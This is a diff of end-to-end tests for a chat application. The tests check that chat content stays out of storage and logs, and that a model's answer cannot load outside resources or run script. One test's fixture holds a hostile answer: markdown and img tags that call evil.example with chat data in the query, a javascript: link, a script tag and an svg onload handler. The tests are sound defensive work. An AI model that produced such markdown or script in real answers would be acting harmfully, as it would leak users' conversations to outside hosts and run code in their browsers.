@@ -10,7 +10,11 @@ const filesOf = (dir: string): string[] =>
 test.describe('somebody signed in', () => {
   test.use({ signedIn: true, storage: 'embedded', ownServer: true })
 
-  test('nothing of a local chat is in the data folder or the logs: not its text, not its name, not its address', async ({ page, gateway, server }) => {
+  test('nothing of a local chat is in the data folder or the logs: not its text, not its name, not its address', async ({
+    page,
+    gateway,
+    server,
+  }) => {
     const [question, answer, name] = ['MARKER-QUESTION-7f3a', 'MARKER-ANSWER-91cc', 'MARKER-NAME-e0b2']
     gateway.next({ text: `${answer} is the answer` })
     await ask(page, question)
@@ -54,7 +58,9 @@ test('IndexedDB holds no plain text of a chat, its name or a draft [CH-174, CH-1
     const bytes = (value: unknown): string =>
       value instanceof ArrayBuffer || ArrayBuffer.isView(value)
         ? new TextDecoder('latin1').decode(value instanceof ArrayBuffer ? value : value.buffer)
-        : JSON.stringify(value, (_key, inner) => (inner instanceof ArrayBuffer || ArrayBuffer.isView(inner) ? bytes(inner) : inner))
+        : JSON.stringify(value, (_key, inner) =>
+            inner instanceof ArrayBuffer || ArrayBuffer.isView(inner) ? bytes(inner) : inner,
+          )
     for (const { name } of await indexedDB.databases()) {
       if (!name) continue
       const db = await new Promise<IDBDatabase>((resolve, reject) => {
@@ -72,19 +78,27 @@ test('IndexedDB holds no plain text of a chat, its name or a draft [CH-174, CH-1
       }
       db.close()
     }
-    return { text: seen.join('\n'), storage: JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }) }
+    return {
+      text: seen.join('\n'),
+      storage: JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }),
+    }
   })
-  expect(dump.text).toMatch(/parley\/messages: 1/)
+  expect(dump.text).toMatch(/parley\/exchanges: 1/)
   for (const plain of ['PLAIN-ANSWER', 'PLAIN-QUESTION', 'PLAIN-DRAFT', 'Chat 2']) {
     expect(dump.text).not.toContain(plain)
     expect(dump.storage).not.toContain(plain)
   }
 })
 
-test('an answer cannot call out: pictures, styles and links load nothing by themselves', async ({ page, gateway, context }) => {
+test('an answer cannot call out: pictures, styles and links load nothing by themselves', async ({
+  page,
+  gateway,
+  context,
+}) => {
   const outside: string[] = []
   context.on('request', (request) => {
-    if (!request.url().startsWith('http://localhost') && !/^(blob|data):/.test(request.url())) outside.push(request.url())
+    if (!request.url().startsWith('http://localhost') && !/^(blob|data):/.test(request.url()))
+      outside.push(request.url())
   })
   gateway.next({
     text: '![secret](https://evil.example/leak.png?q=chat) <img src="https://evil.example/raw.png"> [link](javascript:alert(1)) <script>window.hacked = 1</script>\n\n[ref]: https://evil.example/x "t"\n\n![r][ref]\n\n<svg onload="window.hacked=2"></svg>\n\nend of answer',
@@ -97,5 +111,9 @@ test('an answer cannot call out: pictures, styles and links load nothing by them
   await page.waitForLoadState('networkidle')
   expect(outside).toEqual([])
   expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
-  expect(await page.locator('[data-answer] a[href^="javascript"], [data-answer] script, [data-answer] img[src^="http"]').count()).toBe(0)
+  expect(
+    await page
+      .locator('[data-answer] a[href^="javascript"], [data-answer] script, [data-answer] img[src^="http"]')
+      .count(),
+  ).toBe(0)
 })
